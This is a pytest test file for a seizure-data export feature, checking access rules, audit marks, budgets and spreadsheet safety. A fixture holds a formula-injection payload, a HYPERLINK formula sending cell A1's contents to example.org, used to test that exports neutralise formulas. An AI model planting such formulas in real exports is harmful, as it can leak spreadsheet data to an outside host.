"""A file that leaves the node holds what its taker may see, says who that was, and is no programme to a spreadsheet."""

import csv
import io
import json
from dataclasses import replace

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from fixtures_node import Agencies, file_reports
from hamkar.actions import export
from hamkar.actions.access_person import StepUpFirst
from hamkar.actions.export import Exported, Layout, export_seizures
from hamkar.actions.node import Node
from hamkar.errors import NotAllowed, Refused
from hamkar.model.agreement import Purpose
from hamkar.model.handling import FREE, Handling, HandlingCode
from hamkar.model.oversight import AlarmKind
from hamkar.model.place import Place
from hamkar.model.role import Person, Role
from hamkar.policy.budget import DAILY, BudgetKind
from hamkar.store import alarms, log
from hamkar.store.events import EventFilter
from hamkar.store.log import LogFilter
from reports import claim, kilograms, line, numbered

STATISTICIAN = Person(name="=synthetic statistician", roles=frozenset({Role.STATISTICIAN}), stepped_up=True)
LIVE = '=HYPERLINK("https://example.org/?"&A1,"open")'


@pytest.fixture(scope="module")
def iran(agencies: Agencies) -> Node:
    """A node with a seizure whose place is a formula, and one that statisticians do not see."""
    place = Place(country="IR", text=LIVE)
    for number, handling in ((1, FREE), (2, Handling(code=HandlingCode.H2))):
        made = claim(number, f"s{number}", line("opium", kilograms("12.5")), place=place)
        file_reports(
            agencies.iran, replace(made, originator=agencies.iran.id, group=numbered(number), handling=handling)
        )
    return agencies.iran


def taken(node: Node, layout: Layout, person: Person = STATISTICIAN) -> Exported:
    """Everything, as a file."""
    return export_seizures(node, person, EventFilter(), layout, Purpose.STATISTICS)


def cells(made: Exported, layout: Layout) -> list[list[str]]:
    """The cells of a file as texts, the header first."""
    if layout is Layout.CSV:
        return list(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(made.data))["Seizures"]
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    return [[str(value) for value in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("layout", [Layout.CSV, Layout.XLSX])
def test_no_cell_is_a_formula(iran: Node, layout: Layout) -> None:
    (header, row) = cells(taken(iran, layout), layout)
    assert row[header.index("place")] == f"'{LIVE}"
    assert not [cell for cell in row if cell.startswith(("=", "+", "@"))]


def test_only_what_the_taker_may_see_goes_out(iran: Node) -> None:
    made = json.loads(taken(iran, Layout.JSON).data)
    assert [row["seizure"] for row in made["seizures"]] == [str(numbered(1))]
    assert made["seizures"][0]["amount"] == "12.5"


def test_every_row_and_the_log_name_the_export(iran: Node) -> None:
    made = taken(iran, Layout.CSV)
    (header, row) = cells(made, Layout.CSV)
    mark = row[header.index("export")]
    assert all(part in mark for part in (str(made.export.id), STATISTICIAN.name, "statistics", "2026-03-02"))
    with iran.database.transaction() as connection:
        (entry,) = log.entries(connection, LogFilter(subject=str(made.export.id)), 10)
    assert made.export.sha256 in (entry.event or "")


def test_it_asks_for_a_fresh_proof_and_for_the_role(iran: Node) -> None:
    with pytest.raises(StepUpFirst):
        taken(iran, Layout.CSV, replace(STATISTICIAN, stepped_up=False))
    with pytest.raises(NotAllowed):
        taken(iran, Layout.CSV, Person(name="x", roles=frozenset({Role.BORDER_OFFICER}), stepped_up=True))


def test_past_the_budget_no_file_goes_and_the_officer_is_told(iran: Node) -> None:
    greedy = replace(STATISTICIAN, name="synthetic greedy one")
    for _ in range(DAILY[BudgetKind.EXPORTS][Role.STATISTICIAN]):
        taken(iran, Layout.JSON, greedy)
    with pytest.raises(Refused, match="for this is spent"):
        taken(iran, Layout.JSON, greedy)
    with iran.database.transaction() as connection:
        assert AlarmKind.BUDGET_SPENT in [alarm.kind for alarm in alarms.alarms(connection, limit=9, offset=0)]


def test_more_than_a_file_holds_is_not_cut_in_silence(iran: Node, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "MOST_SEIZURES", 0)
    with pytest.raises(Exception, match="more than 0 seizures fit"):
        taken(iran, Layout.CSV)
